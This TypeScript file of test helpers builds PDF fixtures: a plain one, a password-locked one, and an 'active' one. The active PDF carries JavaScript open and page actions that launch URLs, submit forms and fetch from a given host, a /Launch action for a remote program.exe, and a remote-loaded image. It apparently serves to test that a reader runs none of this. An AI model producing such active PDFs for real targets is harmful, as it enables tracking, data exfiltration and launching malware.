/** The same as `pdfOf`, locked: a reader has to ask for its password, which is not known. */
export function lockedPdf(): Buffer {
  const key = '5a'.repeat(32);
  const encrypt = `/ID [<${key}> <${key}>] /Encrypt << /Filter /Standard /V 1 /R 2 /O <${key}> /U <${key}> /P -4 >>`;
  return Buffer.from(pdfOf(['Locked']).toString('latin1').replace('/Root 1 0 R', `/Root 1 0 R ${encrypt}`), 'latin1');
}

/** A PDF of A4 pages, each with its text, as plain as they come. */
export function pdfOf(texts: readonly string[]): Buffer {
  const pages = texts.map((text, at) => {
    const content = `BT /F1 24 Tf 72 740 Td (${text.replaceAll(/[()\\]/g, '')}) Tj ET`;
    return [
      `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents ${5 + at * 2} 0 R /Resources << /Font << /F1 3 0 R >> >> >>`,
      `<< /Length ${content.length} >>\nstream\n${content}\nendstream`,
    ];
  });
  const kids = texts.map((_text, at) => `${4 + at * 2} 0 R`).join(' ');
  const objects = [
    '<< /Type /Catalog /Pages 2 0 R >>',
    `<< /Type /Pages /Kids [${kids}] /Count ${texts.length} >>`,
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>',
    ...pages.flat(),
  ];
  return writtenPdf(objects);
}

/** A PDF that would run scripts, open addresses, start programs and fetch pictures of `host`, wherever a reader let it. */
export function activePdf(host: string): Buffer {
  const script = `app.alert('Opened'); app.launchURL('http://${host}/launched', true); this.submitForm('http://${host}/sent'); fetch('http://${host}/fetched');`;
  const act = `<< /S /JavaScript /JS (${script.replaceAll(/[()\\]/g, String.raw`\$&`)}) >>`;
  const link = (action: string) => `<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /Border [0 0 0] /A ${action} >>`;
  const content = 'BT /F1 24 Tf 72 740 Td (Nothing of this runs) Tj ET q 100 0 0 100 72 500 cm /Im1 Do Q';
  return writtenPdf([
    `<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R /AA << /WC ${act} /DP ${act} >> /Names << /JavaScript << /Names [(run) 6 0 R] >> >> /AcroForm << /Fields [10 0 R] /NeedAppearances true >> >>`,
    '<< /Type /Pages /Kids [4 0 R] /Count 1 >>',
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>',
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 5 0 R /AA << /O ${act} >> /Annots [7 0 R 8 0 R 10 0 R] /Resources << /Font << /F1 3 0 R >> /XObject << /Im1 9 0 R >> >> >>`,
    `<< /Length ${content.length} >>\nstream\n${content}\nendstream`,
    act,
    link(`<< /S /URI /URI (http://${host}/clicked) >>`),
    link(`<< /S /Launch /F (http://${host}/program.exe) >>`),
    // Its content lies elsewhere, as the format allows.
    `<< /Type /XObject /Subtype /Image /Width 1 /Height 1 /ColorSpace /DeviceGray /BitsPerComponent 8 /F << /FS /URL /F (http://${host}/picture) >> /Length 0 >>\nstream\n\nendstream`,
    `<< /Type /Annot /Subtype /Widget /FT /Btn /Ff 65536 /T (button) /Rect [72 600 200 640] /A ${act} /AA << /PV ${act} /E ${act} >> >>`,
  ]);
}

/** Objects, numbered from 1 in their order, as a file with its table. */
function writtenPdf(objects: readonly string[]): Buffer {
  let file = '%PDF-1.4\n';
  const places = objects.map((object, at) => {
    const place = file.length;
    file += `${at + 1} 0 obj\n${object}\nendobj\n`;
    return place;
  });
  const table = places.map((place) => `${String(place).padStart(10, '0')} 00000 n \n`).join('');
  const start = file.length;
  file += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${table}trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${start}\n%%EOF\n`;
  return Buffer.from(file, 'latin1');
}
